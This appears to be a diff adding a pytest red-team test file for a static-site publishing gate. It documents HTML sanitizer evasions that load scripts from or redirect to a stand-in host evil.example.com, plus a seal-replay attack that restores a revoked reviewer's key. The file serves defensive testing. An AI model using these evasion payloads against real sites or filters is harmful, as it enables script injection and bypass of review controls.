@@ -1,0 +1,85 @@
+"""Red team of issue #11 (inline-mode sites, `govgate build`): attacks that still work.
+
+Each test is marked ``xfail(strict=True)``: it fails on the current code (the attack works) and
+turns into an error the day the hole is closed (then remove the mark).  History-mode attacks are
+in tests/evidence/test_redteam_history.py.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from sitekit import Site, public_line, roster_yaml
+
+THEME_DOMAINS = "www.mkdocs.org\nsquidfunk.github.io\n"
+EVIL_HOST = "evil.example.com"
+
+
+def approved_site(root: Path, **kwargs) -> Site:
+    site = Site(root, **kwargs)
+    site.write("signoffs/rules/allowed_domains.txt", THEME_DOMAINS)
+    site.page("index.md", "# 首页\n\n欢迎访问。\n")
+    site.approve("index.md")
+    return site
+
+
+def published(site: Site) -> list[str]:
+    return sorted(p.relative_to(site.site_dir).as_posix() for p in site.site_dir.rglob("*") if p.is_file()) \
+        if site.site_dir.is_dir() else []
+
+
+# -- active content: a reviewed page that loads, runs or redirects to another host ----------------------
+
+EVASIONS = {
+    # browsers use the FIRST of two equal attributes; the scanner keeps the last
+    "duplicate-attribute": f'<script src="https://{EVIL_HOST}/x.js" src="https://www.mkdocs.org/x.js"></script>',
+    # "///host" and "http:host" are absolute to a browser (special-scheme URL parsing), relative to urlsplit
+    "triple-slash": f'<script src="///{EVIL_HOST}/x.js"></script>',
+    "scheme-without-slashes": f'<script src="http:{EVIL_HOST}/x.js"></script>',
+    # the refresh URL need not be introduced by "url="
+    "refresh-without-url=": f'<meta http-equiv="refresh" content="0;https://{EVIL_HOST}/">',
+    # HTML inside an attribute: a frame whose document loads a script
+    "iframe-srcdoc": f'<iframe srcdoc="&lt;script src=https://{EVIL_HOST}/x.js&gt;&lt;/script&gt;"></iframe>',
+    # an SVG script loads through href / xlink:href, not src
+    "svg-script-href": f'<svg><script href="https://{EVIL_HOST}/x.js"></script></svg>',
+    # parser differentials: html.parser sees text where a browser sees a tag
+    "svg-style-breakout": f'<svg><style><meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/"></style></svg>',
+    "abrupt-comment": f'<!--><script src="https://{EVIL_HOST}/x.js"></script>-->',
+    "noscript-attribute": f'<noscript><p title="</noscript><script src=https://{EVIL_HOST}/x.js></script>"></noscript>',
+}
+
+
+@pytest.mark.xfail(strict=True, reason="red team: activecontent.py reads HTML and URLs unlike a browser "
+                   "(see the case id)")
+@pytest.mark.parametrize("name", list(EVASIONS))
+def test_active_content_evasion_is_published(tmp_path: Path, name: str) -> None:
+    site = approved_site(tmp_path / "s")
+    site.page("a.md", "# 通知\n\n正文。\n\n" + EVASIONS[name] + "\n")
+    site.approve("a.md")       # reviewers sign the text they see; the gate must still block the active content
+    result = site.gate_build()
+    page = site.site_dir / "a" / "index.html"
+    assert result.returncode != 0, f"published, {EVIL_HOST} in a/index.html: {EVIL_HOST in page.read_text()}"
+    assert published(site) == []
+
+
+# -- inline seal: replay of an older seal (rollback) -----------------------------------------------------
+
+@pytest.mark.xfail(strict=True, reason="red team: an inline seal has no freshness; an editor restores an "
+                   "older roster with its older (genuine) seal and a revoked reviewer signs again")
+def test_replayed_old_seal_restores_a_revoked_reviewer(tmp_path: Path) -> None:
+    site = approved_site(tmp_path / "s")
+    old_roster = (site.root / "signoffs/reviewers.yml").read_bytes()
+    old_seal = (site.root / "signoffs/seal.yml").read_bytes()
+    # the admin learns chief1's key leaked: marks it compromised and seals (auto_seal plays the admin)
+    site.write("signoffs/reviewers.yml", roster_yaml() + f'compromised_keys: ["{public_line("chief1")}"]\n')
+    site.page("a.md", "# 通知\n\n未经真正审核的文字。\n")
+    site.approve("a.md")      # "first" signed with chief1's leaked key
+    assert site.gate_build().returncode != 0       # refused while the current seal holds
+    # the editor (holding the leaked key) puts back the old roster and the old seal, both genuine
+    site.auto_seal = False
+    site.write("signoffs/reviewers.yml", old_roster)
+    site.write("signoffs/seal.yml", old_seal)
+    result = site.gate_build()
+    assert result.returncode != 0, "published on the replayed seal: " + ", ".join(published(site))
+    assert published(site) == []
